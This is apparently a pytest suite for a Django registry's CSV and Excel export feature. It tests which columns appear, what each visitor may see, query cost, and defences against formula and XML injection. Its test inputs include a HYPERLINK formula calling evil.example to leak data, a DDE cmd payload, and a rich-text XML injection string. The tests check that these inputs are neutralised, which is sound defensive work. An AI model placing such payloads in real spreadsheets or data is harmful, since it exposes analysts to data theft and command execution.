"""The lists' downloads (``registry.exports``): every public column, read back the way an
analyst reads them (Python's ``csv`` module, openpyxl), safe cells, only what the caller may
see, streamed, and a cost that does not grow with the rows."""

import csv
import datetime
import io
import re
import tempfile
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection, models
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from municipalities.choices import Country
from organisations.choices import OrganisationKind
from partnerships.choices import LinkState
from partnerships.models import Partnership, PartnershipMunicipality
from registry import exports, xlsx
from tests.factories import (
    CountyFactory,
    MunicipalityFactory,
    OrganisationFactory,
    PartnershipFactory,
    VolunteerCentreFactory,
    analyst,
    organisation_in,
)

pytestmark = pytest.mark.django_db

PARTNERSHIPS = "/partnerships/"
ORGANISATIONS = "/organisations/"
MUNICIPALITIES = "/municipalities/"

PARTNERSHIP_HEADERS = [
    "ID", "Title", "Status", "Start date", "End date", "Municipalities",
    "Municipality codes", "Counties", "Countries", "Organisations", "Organisation ids",
    "Lead partner", "Fields", "Forms of collaboration", "Declared co-creation type",
    "Derived co-creation type", "Initiative taken by", "Voluntary actors first involved in",
    "Goals and content controlled by", "Agreement", "Municipal contribution", "Currency",
    "Volunteer hours", "People reached", "What helped", "What hindered", "Description",
    "Outcomes", "Created", "Updated",
]  # fmt: skip
PARTNERSHIP_KEYS = [
    "id", "title", "status", "start_date", "end_date", "municipalities",
    "municipality_codes", "counties", "countries", "organisations", "organisation_ids",
    "lead_organisation", "fields", "forms", "co_creation_type", "derived_co_creation_type",
    "initiator", "involvement_phase", "goals_control", "agreement", "municipal_contribution",
    "currency", "volunteer_hours", "people_reached", "promoting_factors", "hindering_factors",
    "description", "outcomes", "created_at", "updated_at",
]  # fmt: skip
ORGANISATION_HEADERS = [
    "ID", "Name", "Organisation number", "Organisation id", "Country", "Kind", "Level",
    "ICNPO categories", "Operates in", "Municipality codes", "Verified", "Verified at",
    "Website", "Description", "Created", "Updated",
]  # fmt: skip
MUNICIPALITY_HEADERS = [
    "ID", "Name", "Code", "County", "County code", "Country", "Organisation number",
    "Organisation id", "In the current division", "Population", "Volunteer policy adopted",
    "Year the volunteer policy was adopted", "Link to the volunteer policy",
    "Volunteer centres", "Number of volunteer centres", "Established partnerships", "Updated",
]  # fmt: skip

FORMULAS = [
    '=HYPERLINK("http://evil.example/leak","x")',
    "-2+3+cmd|' /C calc'!A0",
    "+47 99 99 99 99",
    "@SUM(A1:A3)",
    "\tindented",
    "\rreturn",
]


# --- helpers ---------------------------------------------------------------------------------


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response, delimiter=",") -> list[list[str]]:
    assert response.status_code == 200, response
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte-order mark
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def csv_dicts(response, **kwargs) -> list[dict[str, str]]:
    header, *rows = csv_rows(response, **kwargs)
    return [dict(zip(header, row, strict=True)) for row in rows]


def workbook(response):
    assert response.status_code == 200, response
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert "attachment" in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(body(response)))
    assert len(book.worksheets) == 1
    return book.worksheets[0]


def excel_text(value: str) -> str:
    """A cell's text as Excel reads it: OOXML writes a control character such as a carriage
    return as ``_x000D_`` (and a literal ``_x000D_`` as ``_x005F_x000D_``), which Excel and
    LibreOffice decode and openpyxl leaves as it is."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


@pytest.fixture
def temporary_files(tmp_path, monkeypatch):
    """The directory the writer keeps its temporary files in."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


def sheet_dicts(sheet) -> list[dict[str, openpyxl.cell.cell.Cell]]:
    header, *rows = sheet.iter_rows()
    names = [cell.value for cell in header]
    return [dict(zip(names, row, strict=False)) for row in rows]


@pytest.fixture
def partnership():
    """An active partnership with every column filled: two municipalities in two counties
    (one of them a pending link, which it must not be listed under), a lead and a partner
    (one an informal group without a number), two fields and two forms."""
    oslo = MunicipalityFactory(
        name="Oslo", code="0301", county=CountyFactory(name="Oslo", code="03")
    )
    bergen = MunicipalityFactory(
        name="Bergen", code="4601", county=CountyFactory(name="Vestland", code="46")
    )
    asker = MunicipalityFactory(name="Asker", code="3203")
    red_cross = OrganisationFactory(name="Oslo Røde Kors", org_number="974760673")
    group = OrganisationFactory(
        name="Naboer i Gamle Oslo", org_number="", kind=OrganisationKind.INFORMAL_GROUP
    )
    partnership = PartnershipFactory(
        title="Leksehjelp på biblioteket",
        status="active",
        start_date=datetime.date(2023, 8, 15),
        end_date=datetime.date(2025, 6, 20),
        initiator="local_civic",
        involvement_phase="problem_definition",
        goals_control="shared",
        co_creation_type="municipality_led",
        agreement="partnership_agreement",
        municipal_contribution=Decimal("125000.50"),
        volunteer_hours=1200,
        people_reached=340,
        promoting_factors=["key_individuals", "facilitation"],
        hindering_factors=["economic_uncertainty"],
        description="Hver tirsdag,\nfor elever på mellomtrinnet.",
        outcomes="Bedre karakterer; flere frivillige.",
        links__municipalities=[bergen, oslo, asker],
        links__organisations={group: "partner", red_cross: "lead"},
        links__fields=["sport", "culture"],
        links__forms=["grant", "premises"],
    )
    PartnershipMunicipality.objects.filter(partnership=partnership, municipality=asker).update(
        state=LinkState.PENDING
    )
    return partnership


# --- partnerships: columns and values --------------------------------------------------------


def test_csv_has_every_public_column_with_plain_values(client, partnership):
    response = client.get(PARTNERSHIPS, {"_export": "csv"})

    assert response.streaming
    assert response["Content-Disposition"] == 'attachment; filename="partnerships.csv"'
    header, *rows = csv_rows(response)
    assert header == PARTNERSHIP_HEADERS
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    partnership.refresh_from_db()
    assert row == {
        "ID": str(partnership.pk),
        "Title": "Leksehjelp på biblioteket",
        "Status": "Active",
        "Start date": "2023-08-15",
        "End date": "2025-06-20",
        # Asker's link awaits confirmation: not listed under it.
        "Municipalities": "Bergen; Oslo",
        "Municipality codes": "4601; 0301",
        "Counties": "Vestland; Oslo",
        "Countries": "Norway",
        "Organisations": "Oslo Røde Kors; Naboer i Gamle Oslo",
        "Organisation ids": "NO-BRC-974760673; –",
        "Lead partner": "Oslo Røde Kors",
        "Fields": "Culture; Sport",
        "Forms of collaboration": "Premises and facilities; Grant for activities",
        "Declared co-creation type": "Municipality-led",
        "Derived co-creation type": "Equal co-creation",
        "Initiative taken by": "A local civic actor",
        "Voluntary actors first involved in": "Problem definition",
        "Goals and content controlled by": "Shared",
        "Agreement": "Partnership agreement (IOP type)",
        "Municipal contribution": "125000.50",
        "Currency": "NOK",
        "Volunteer hours": "1200",
        "People reached": "340",
        "What helped": "Practical facilitation; Key individuals",
        "What hindered": "Economic uncertainty",
        "Description": "Hver tirsdag,\nfor elever på mellomtrinnet.",
        "Outcomes": "Bedre karakterer; flere frivillige.",
        # The registry's local time (Europe/Oslo), as a spreadsheet reads a date and time.
        "Created": timezone.localtime(partnership.created_at).strftime("%Y-%m-%d %H:%M:%S"),
        "Updated": timezone.localtime(partnership.updated_at).strftime("%Y-%m-%d %H:%M:%S"),
    }


def test_excel_has_real_dates_and_numbers_in_a_named_sheet(client, partnership):
    response = client.get(PARTNERSHIPS, {"_export": "xlsx"})

    assert response["Content-Disposition"] == 'attachment; filename="partnerships.xlsx"'
    sheet = workbook(response)
    assert sheet.title == "Partnerships"
    assert sheet.freeze_panes == "A2"
    header = [cell for cell in next(sheet.iter_rows())]
    assert [cell.value for cell in header] == PARTNERSHIP_HEADERS
    assert all(cell.font.b for cell in header)
    (row,) = sheet_dicts(sheet)
    assert row["ID"].value == partnership.pk and row["ID"].data_type == "n"
    assert row["Start date"].is_date
    assert row["Start date"].value == datetime.datetime(2023, 8, 15)
    assert row["End date"].value == datetime.datetime(2025, 6, 20)
    assert row["Created"].is_date and isinstance(row["Created"].value, datetime.datetime)
    assert row["Municipal contribution"].data_type == "n"
    assert row["Municipal contribution"].value == pytest.approx(125000.50)
    assert row["Volunteer hours"].value == 1200 and row["People reached"].value == 340
    assert row["Title"].value == "Leksehjelp på biblioteket"
    assert row["Municipalities"].value == "Bergen; Oslo"
    assert row["Organisation ids"].value == "NO-BRC-974760673; –"


def test_empty_values_stay_empty(client):
    PartnershipFactory(end_date=None, municipal_contribution=None, volunteer_hours=None)

    (row,) = csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv"}))
    assert row["End date"] == row["Municipal contribution"] == row["Volunteer hours"] == ""
    assert row["What helped"] == row["Forms of collaboration"] == ""
    (cells,) = sheet_dicts(workbook(client.get(PARTNERSHIPS, {"_export": "xlsx"})))
    assert cells["End date"].value is None and cells["Volunteer hours"].value is None


def test_header_keys_are_the_english_field_names(client, partnership):
    response = client.get(
        PARTNERSHIPS, {"_export": "csv", "headers": "keys"}, HTTP_ACCEPT_LANGUAGE="nb"
    )
    header, row = csv_rows(response)
    assert header == PARTNERSHIP_KEYS
    assert row[1] == "Leksehjelp på biblioteket"

    response = client.get(PARTNERSHIPS, {"_export": "xlsx", "headers": "keys"})
    assert [cell.value for cell in next(workbook(response).iter_rows())] == PARTNERSHIP_KEYS


def test_headers_and_sheet_follow_the_language(client, partnership):
    header, row = csv_rows(client.get(PARTNERSHIPS, {"_export": "csv"}, HTTP_ACCEPT_LANGUAGE="nb"))
    assert header[1:4] == ["Tittel", "Status", "Startdato"]
    assert row[2] == "Aktiv"

    response = client.get(PARTNERSHIPS, {"_export": "xlsx"}, HTTP_ACCEPT_LANGUAGE="nb")
    assert workbook(response).title == "Samarbeid"


def test_semicolon_variant_for_excel_in_nordic_locales(client, partnership):
    response = client.get(PARTNERSHIPS, {"_export": "csv", "delimiter": "semicolon"})

    header, *rows = csv_rows(response, delimiter=";")
    assert header == PARTNERSHIP_HEADERS
    row = dict(zip(header, rows[0], strict=True))
    # Values holding the separator are quoted, and read back whole.
    assert row["Municipalities"] == "Bergen; Oslo"
    assert row["Outcomes"] == "Bedre karakterer; flere frivillige."
    # Excel in a Nordic locale reads a decimal comma.
    assert row["Municipal contribution"] == "125000,50"
    assert row["Start date"] == "2023-08-15"
    # The default stays a plain comma-separated file.
    assert csv_rows(client.get(PARTNERSHIPS, {"_export": "csv"}))[0] == PARTNERSHIP_HEADERS


def test_the_export_follows_the_filters_and_the_sorting(client):
    for title in ("Bb", "Aa", "Cc"):
        PartnershipFactory(title=title, links__fields=["culture"])
    PartnershipFactory(title="Idrett", links__fields=["sport"])

    rows = csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv", "sort": "title"}))
    assert [r["Title"] for r in rows] == ["Aa", "Bb", "Cc", "Idrett"]
    rows = csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv", "field": "sport"}))
    assert [r["Title"] for r in rows] == ["Idrett"]


# --- safe cells ------------------------------------------------------------------------------


@pytest.mark.parametrize("title", FORMULAS)
def test_a_formula_comes_out_as_text(client, title):
    PartnershipFactory(title=title)

    (row,) = csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv"}))
    assert row["Title"] == "'" + title

    (cells,) = sheet_dicts(workbook(client.get(PARTNERSHIPS, {"_export": "xlsx"})))
    assert cells["Title"].data_type == "s"  # text, not a formula ("f")
    assert excel_text(cells["Title"].value) == title


def test_a_formula_in_a_many_valued_column_comes_out_as_text(client):
    organisation = OrganisationFactory(name="=1+1")
    PartnershipFactory(links__organisations={organisation: "lead"})

    (row,) = csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv"}))
    assert row["Organisations"] == "'=1+1" and row["Lead partner"] == "'=1+1"
    (cells,) = sheet_dicts(workbook(client.get(PARTNERSHIPS, {"_export": "xlsx"})))
    assert cells["Lead partner"].data_type == "s" and cells["Lead partner"].value == "=1+1"


def test_a_control_character_in_a_stored_title_does_not_break_the_download(client):
    partnership = PartnershipFactory(outcomes="Linje 1\nLinje 2\tmed tab")
    # Stored before the forms refused it: written directly, as old data would be.
    Partnership.objects.filter(pk=partnership.pk).update(title="Bad\x01title\x0b\x7f\x9b ok")

    (row,) = csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv"}))
    assert row["Title"] == "Badtitle ok"
    assert row["Outcomes"] == "Linje 1\nLinje 2\tmed tab"

    response = client.get(PARTNERSHIPS, {"_export": "xlsx"})
    (cells,) = sheet_dicts(workbook(response))
    assert cells["Title"].value == "Badtitle ok"
    assert cells["Outcomes"].value == "Linje 1\nLinje 2\tmed tab"


# --- only what the caller may see ------------------------------------------------------------


def test_an_anonymous_visitor_exports_only_public_partnerships(client):
    municipality = MunicipalityFactory()
    PartnershipFactory(title="Offentlig", links__municipalities=[municipality])
    PartnershipFactory(title="Forslag", status="under_review", start_date=None)
    PartnershipFactory(title="Utkast", status="draft", start_date=None)
    PartnershipFactory(title="Avslått", status="declined")

    titles = {r["Title"] for r in csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv"}))}
    assert titles == {"Offentlig"}
    sheet = workbook(client.get(PARTNERSHIPS, {"_export": "xlsx"}))
    assert {row["Title"].value for row in sheet_dicts(sheet)} == {"Offentlig"}

    # An analyst reads proposals too, but never an organisation's draft.
    client.force_login(analyst())
    titles = {r["Title"] for r in csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv"}))}
    assert titles == {"Offentlig", "Forslag", "Avslått"}


def test_a_proposal_is_listed_under_the_municipality_it_is_addressed_to(client):
    municipality = MunicipalityFactory(name="Drammen")
    proposal = PartnershipFactory(
        title="Forslag", status="under_review", start_date=None,
        links__municipalities=[municipality],
    )  # fmt: skip
    PartnershipMunicipality.objects.filter(partnership=proposal).update(state=LinkState.PENDING)
    client.force_login(analyst())

    (row,) = csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv"}))
    assert row["Municipalities"] == "Drammen" and row["Start date"] == ""


def test_organisation_export_has_its_public_columns_and_no_contact_data(client):
    bodo = MunicipalityFactory(name="Bodø", code="1804")
    organisation_in(
        bodo,
        categories=["4", "1"],
        name="Bodø kor",
        org_number="974760673",
        email="kor@example.no",
        phone="+47 99 99 99 99",
        contact_person="Kari Kor",
        address="Storgata 1",
        website="https://kor.example.no/",
        verified=True,
        verified_at=datetime.datetime(2024, 5, 2, 10, 30, tzinfo=datetime.UTC),
    )

    response = client.get(ORGANISATIONS, {"_export": "csv"})
    assert response.streaming
    raw = body(response)
    for secret in (b"kor@example.no", b"99 99 99", b"Kari Kor", b"Storgata"):
        assert secret not in raw
    header, row = csv_rows(client.get(ORGANISATIONS, {"_export": "csv"}))
    assert header == ORGANISATION_HEADERS
    row = dict(zip(header, row, strict=True))
    assert row["Name"] == "Bodø kor" and row["Organisation id"] == "NO-BRC-974760673"
    assert row["ICNPO categories"] == "Social services; Culture and recreation"
    assert row["Operates in"] == "Bodø" and row["Municipality codes"] == "1804"
    assert row["Verified"] == "Yes" and row["Verified at"] == "2024-05-02 12:30:00"
    assert row["Country"] == "Norway" and row["Kind"] == "Association"

    sheet = workbook(client.get(ORGANISATIONS, {"_export": "xlsx"}))
    assert sheet.title == "Organisations"
    (cells,) = sheet_dicts(sheet)
    assert cells["Verified"].value is True and cells["Verified"].data_type == "b"
    assert cells["Verified at"].value == datetime.datetime(2024, 5, 2, 12, 30)
    assert cells["Organisation number"].data_type == "s"  # a number with leading zeros stays


def test_municipality_export_has_its_public_columns(client):
    county = CountyFactory(name="Vestland", code="46")
    bergen = MunicipalityFactory(
        name="Bergen", code="4601", county=county, population=291_000,
        volunteer_policy_adopted=True, volunteer_policy_year=2017,
    )  # fmt: skip
    VolunteerCentreFactory(municipality=bergen, name="Frivilligsentralen Årstad")
    VolunteerCentreFactory(municipality=bergen, name="Frivilligsentralen Arna")
    PartnershipFactory(links__municipalities=[bergen])
    PartnershipFactory(status="under_review", start_date=None, links__municipalities=[bergen])

    header, row = csv_rows(client.get(MUNICIPALITIES, {"_export": "csv", "county": county.pk}))
    assert header == MUNICIPALITY_HEADERS
    row = dict(zip(header, row, strict=True))
    assert row["Name"] == "Bergen" and row["Code"] == "4601"
    assert row["County"] == "Vestland" and row["County code"] == "46"
    assert row["Population"] == "291000" and row["Year the volunteer policy was adopted"] == "2017"
    assert row["Volunteer centres"] == "Frivilligsentralen Arna; Frivilligsentralen Årstad"
    assert row["Number of volunteer centres"] == "2"
    assert row["Established partnerships"] == "1"  # the proposal is not one

    sheet = workbook(client.get(MUNICIPALITIES, {"_export": "xlsx", "county": county.pk}))
    assert sheet.title == "Municipalities"
    (cells,) = sheet_dicts(sheet)
    assert cells["Population"].value == 291_000 and cells["Population"].data_type == "n"
    assert cells["Volunteer policy adopted"].value is True
    assert cells["Code"].data_type == "s"


# --- the page's links, the limits ------------------------------------------------------------


@pytest.mark.parametrize("url", [PARTNERSHIPS, ORGANISATIONS, MUNICIPALITIES])
def test_the_list_offers_each_download_with_its_filters(client, url):
    html = client.get(url, {"q": "x", "sort": "name", "page": "2"}).content.decode()

    links = html.split('class="exports"', 1)[1].split("</p>", 1)[0]
    assert f'href="{url}?q=x&amp;sort=name&amp;_export=csv">CSV<' in links
    assert (
        f'href="{url}?q=x&amp;sort=name&amp;_export=csv&amp;delimiter=semicolon">'
        "CSV for Excel (semicolon)<"
    ) in links
    assert f'href="{url}?q=x&amp;sort=name&amp;_export=xlsx">Excel<' in links


def test_an_unknown_format_is_not_found(client):
    PartnershipFactory()
    assert client.get(PARTNERSHIPS, {"_export": "json"}).status_code == 404


def test_a_list_larger_than_a_sheet_becomes_a_background_job(client, monkeypatch):
    for _ in range(3):
        PartnershipFactory()
    monkeypatch.setattr(exports, "EXCEL_MAX_ROWS", 3)  # the header and two rows

    response = client.get(PARTNERSHIPS, {"_export": "xlsx", "status": "active"})

    # Not cut, not refused: written over several sheets by a job (tests/downloads).
    assert response.status_code == 303
    assert re.fullmatch(r"/downloads/[0-9a-f-]{36}/", response["Location"])
    # The CSV has no such limit.
    assert len(csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv"}))) == 3


def test_the_writer_stops_at_the_limit_even_if_rows_arrive_after_the_count(
    monkeypatch, temporary_files
):
    for _ in range(3):
        PartnershipFactory()
    from partnerships.exports import PartnershipExport

    monkeypatch.setattr(exports, "EXCEL_MAX_ROWS", 3)
    spec = PartnershipExport()
    out = io.BytesIO()
    with pytest.raises(exports.TooManyRows):
        exports.write_xlsx(spec, Partnership.objects.all(), out, header=spec.header())
    assert out.getvalue() == b""  # no half-written workbook
    assert list(temporary_files.iterdir()) == []  # nor its rows left on disk


# --- the cost --------------------------------------------------------------------------------


#: The page's own queries (session, user, filter choices, the first page of the table and
#: its prefetches) and the export's: the count (Excel), the rows and four related lists
#: per chunk of ``CHUNK_SIZE`` rows.
MAX_EXPORT_QUERIES = 15


def _add_partnerships(count: int) -> None:
    municipalities = [MunicipalityFactory() for _ in range(3)]
    organisations = [OrganisationFactory() for _ in range(3)]
    for n in range(count):
        PartnershipFactory(
            links__municipalities=municipalities[: 1 + n % 3],
            links__organisations={
                organisations[n % 3]: "lead",
                organisations[(n + 1) % 3]: "partner",
            },
            links__fields=["culture", "sport"],
            links__forms=["grant"],
        )


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_partnership_export_costs_the_same_for_3_and_30_rows(
    client, export_format, django_assert_max_num_queries
):
    client.force_login(analyst())
    for added, total in ((3, 3), (27, 30)):
        _add_partnerships(added)
        with django_assert_max_num_queries(MAX_EXPORT_QUERIES):
            response = client.get(PARTNERSHIPS, {"_export": export_format})
            content = body(response)  # the rows are read while streaming
        if export_format == "csv":
            assert content.count(b"\r\n") == 1 + total
        else:
            assert openpyxl.load_workbook(io.BytesIO(content)).active.max_row == 1 + total


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_organisation_and_municipality_exports_cost_the_same_for_3_and_30_rows(
    client, export_format, django_assert_max_num_queries
):
    county = CountyFactory()
    for added in (3, 27):
        for _ in range(added):
            municipality = MunicipalityFactory(county=county)
            VolunteerCentreFactory(municipality=municipality)
            organisation_in(municipality, categories=["1", "4"])
        for url in (ORGANISATIONS, MUNICIPALITIES):
            with django_assert_max_num_queries(MAX_EXPORT_QUERIES):
                response = client.get(url, {"_export": export_format})
                body(response)
            assert response.status_code == 200


def test_rows_are_read_a_chunk_at_a_time(client, monkeypatch):
    """The related data is read once per chunk of rows: with chunks of 2 rows, 5 rows take 3
    reads of the fields where one chunk of 2,000 takes one."""
    from partnerships.exports import PartnershipExport

    _add_partnerships(5)

    def field_reads() -> int:
        with CaptureQueriesContext(connection) as queries:
            rows = csv_dicts(client.get(PARTNERSHIPS, {"_export": "csv"}))
        assert len(rows) == 5
        assert all(r["Municipalities"] and r["Organisations"] and r["Fields"] for r in rows)
        return sum('"partnerships_partnershipfield"' in q["sql"] for q in queries.captured_queries)

    whole = field_reads()
    monkeypatch.setattr(PartnershipExport, "chunk_size", 2)
    assert field_reads() == whole + 2


# --- the cell rules themselves ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("Oslo", "Oslo"),
        ("a\x00b\x1fc\x85d", "abcd"),
        ("\x01=1", "'=1"),  # the control character goes first, then the check
        (-5, "-5"),  # a number is a number
        (Decimal("-1.50"), "-1.50"),
        (True, "Yes"),
        (datetime.date(2024, 1, 31), "2024-01-31"),
        (["=a", "b"], "'=a; b"),
        (None, ""),
    ],
)
def test_csv_cell_rules(value, expected):
    assert exports.csv_value(value) == expected


def test_country_labels_are_translated_in_the_export(client):
    stockholm = MunicipalityFactory(name="Stockholm", country=Country.SWEDEN)
    PartnershipFactory(links__municipalities=[stockholm])
    _, row = csv_rows(client.get(PARTNERSHIPS, {"_export": "csv"}, HTTP_ACCEPT_LANGUAGE="nb"))
    assert row[PARTNERSHIP_KEYS.index("countries")] == "Sverige"


# --- the sheet writer ------------------------------------------------------------------------


def _written(header, *rows, title="Ark", **kwargs):
    out = io.BytesIO()
    sheet = xlsx.SheetWriter(out, title=title, header=header, **kwargs)
    for row in rows:
        sheet.append(row)
    sheet.save()
    out.seek(0)
    return openpyxl.load_workbook(out).active


class Level(models.IntegerChoices):
    LOW = 1, "Low"


def test_the_sheet_writer_keeps_every_kind_of_value(temporary_files):
    when = datetime.datetime(2024, 2, 29, 23, 59, 58)
    values = [
        'A & B <c> "d"', " spaces kept ", "linje\r\nto", "_x0041_ stays", True, False, 0, -12,
        Decimal("1234.56"), 2.5, Level.LOW, datetime.date(1990, 1, 1), when, None, "",
        "00123", "1e5", "https://example.no/", "=1+1",
    ]  # fmt: skip
    header = [f"k{i}" for i in range(len(values))]

    sheet = _written(header, values)

    header_cells = next(sheet.iter_rows(max_row=1))
    assert [cell.value for cell in header_cells] == header
    assert all(cell.font.b for cell in header_cells) and sheet.freeze_panes == "A2"
    cells = next(sheet.iter_rows(min_row=2))
    read = [cell.value for cell in cells]
    assert read[:2] == ['A & B <c> "d"', " spaces kept "]
    assert excel_text(read[2]) == "linje\r\nto" and excel_text(read[3]) == "_x0041_ stays"
    assert read[4:11] == [True, False, 0, -12, 1234.56, 2.5, 1]
    assert [cells[i].data_type for i in range(4, 11)] == ["b", "b", "n", "n", "n", "n", "n"]
    assert read[11] == datetime.datetime(1990, 1, 1) and cells[11].is_date
    assert cells[11].number_format == "yyyy-mm-dd"
    assert read[12] == when and cells[12].number_format == "yyyy-mm-dd hh:mm:ss"
    assert read[13:15] == [None, None]
    # Text stays text: never a number, a link or a formula.
    assert read[15:] == ["00123", "1e5", "https://example.no/", "=1+1"]
    assert all(cell.data_type == "s" for cell in cells[15:]) and not sheet._hyperlinks
    assert list(temporary_files.iterdir()) == []


def test_the_sheet_writer_drops_what_xml_cannot_hold_and_cuts_long_text():
    sheet = _written(
        ["a", "b", "c", "d", "e"],
        ["x\x00y\ufffez\x1f\ud800", "é" * 40_000, Decimal("NaN"), float("inf"), "😀" * 20_000],
        title="Ark: [1]/2?",
    )
    assert sheet.title == "Ark 12"
    a, b, c, d, e = next(sheet.iter_rows(min_row=2))
    assert a.value == "xyz"
    assert len(b.value) == xlsx.MAX_CELL and b.value.endswith("…")
    assert c.value == "NaN" and c.data_type == "s"
    assert d.value == "inf" and d.data_type == "s"
    # Excel counts UTF-16 units: an emoji is two.
    assert e.value == "😀" * 16_383 + "…"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Samarbeid", "Samarbeid"),
        ("'Ark'", "Ark"),
        ("Ark\x01\n2", "Ark2"),
        ("Frivillighetssentraler i kommunene", "Frivillighetssentraler i kommun"),
        ("Frivillighetssentraler i komm' x", "Frivillighetssentraler i komm"),
        ("[]:*?/\\", "Sheet1"),
        ("History", "Sheet1"),
    ],
)
def test_the_sheet_is_named_as_excel_allows(title, expected):
    assert xlsx.sheet_title(title) == expected
    assert _written(["a"], title=title).title == expected


@pytest.mark.parametrize(
    "text",
    [
        "<r><t>x</t></r>",
        '<r></r></is></c><c r="B2" t="inlineStr"><is><t>injected</t></is></c><c><is><r></r>',
        "<r>not xml</r>",
    ],
)
def test_text_that_looks_like_xlsxwriters_rich_text_is_written_escaped(text):
    """XlsxWriter writes a string between ``<r>`` and ``</r>`` into the sheet unescaped,
    taking it for rich text of its own: such a value must come back as it was."""
    sheet = _written(["a", "b"], [text, "after"])
    cells = next(sheet.iter_rows(min_row=2))
    assert [cell.value for cell in cells] == [text, "after"]
    assert sheet.max_column == 2


def test_the_sheet_writer_names_columns_past_z_and_refuses_rows_past_its_limit(temporary_files):
    header = [f"c{i}" for i in range(1, 30)]
    out = io.BytesIO()
    sheet = xlsx.SheetWriter(out, title="Ark", header=header, max_rows=3)
    sheet.append(list(range(1, 30)))
    sheet.append(list(range(1, 30)))
    with pytest.raises(xlsx.TooManyRows):
        sheet.append(list(range(1, 30)))
    sheet.save()
    out.seek(0)
    worksheet = openpyxl.load_workbook(out).active
    assert worksheet.max_row == 3 and worksheet.max_column == 29
    assert worksheet["AC1"].value == "c29" and worksheet["AC3"].value == 29
    assert list(temporary_files.iterdir()) == []


def test_a_dropped_sheet_writes_nothing_and_leaves_no_temporary_file(temporary_files):
    out = io.BytesIO()
    sheet = xlsx.SheetWriter(out, title="Ark", header=["a"])
    for n in range(1000):
        sheet.append([f"row {n}"])
    assert list(temporary_files.iterdir())  # the rows wait on disk, not in memory

    sheet.close()

    assert out.getvalue() == b""
    assert list(temporary_files.iterdir()) == []
